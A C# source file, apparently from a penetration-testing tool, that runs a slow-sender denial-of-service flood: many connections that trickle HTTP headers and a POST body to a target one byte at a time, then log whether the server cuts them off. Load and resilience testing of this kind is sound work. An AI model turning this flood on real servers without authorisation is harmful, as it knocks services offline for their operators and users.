using System.Net.Sockets;
using System.Text;

namespace Lighthouse.Security.Penetration.Floods;

/// <summary>Requests that never come to an end: heads letter by letter, and bodies letter by letter.</summary>
internal sealed class SlowSenders : IFlood
{
    private static readonly TimeSpan Pause = TimeSpan.FromMilliseconds(250);

    public string Name => "slow senders";

    public async Task RunAsync(PenetrationRun run, CancellationToken cancellation)
    {
        var half = Math.Max(1, run.Options.Connections / 2);
        var target = run.Context.Target;
        var operation = run.Operations.FirstOrDefault(one => one.BodyExample is not null && !one.Path.Contains('{'));
        var head = Encoding.ASCII.GetBytes($"GET {run.Options.HealthPath} HTTP/1.1\r\nHost: {target.Authority}\r\nX-Slow: ");
        var body = Encoding.ASCII.GetBytes($"POST {operation?.Path ?? run.Options.HealthPath} HTTP/1.1\r\nHost: {target.Authority}\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{{");
        var senders = Enumerable.Range(0, half).SelectMany(_ => new[] { SendAsync(run, head, cancellation), SendAsync(run, body, cancellation) }).ToList();
        await Task.WhenAll(senders);
        run.Log.Attempt(PenetrationClasses.DenialOfService, Answer.Refused, senders.Count);
    }

    private static async Task SendAsync(PenetrationRun run, byte[] beginning, CancellationToken cancellation)
    {
        var begun = run.Context.Time.GetTimestamp();
        try
        {
            using var client = new TcpClient { NoDelay = true };
            await client.ConnectAsync(run.Context.Target.DnsSafeHost, run.Context.Target.Port, cancellation);
            var stream = client.GetStream();
            await stream.WriteAsync(beginning, cancellation);
            while (run.Context.Time.GetElapsedTime(begun) < run.Options.SlowFor)
            {
                await Task.Delay(Pause, run.Context.Time, cancellation);
                await stream.WriteAsync("a"u8.ToArray(), cancellation);
            }
        }
        catch (Exception closed) when (closed is IOException or SocketException)
        {
            // It has had enough of this sender, which is right.
        }
    }
}
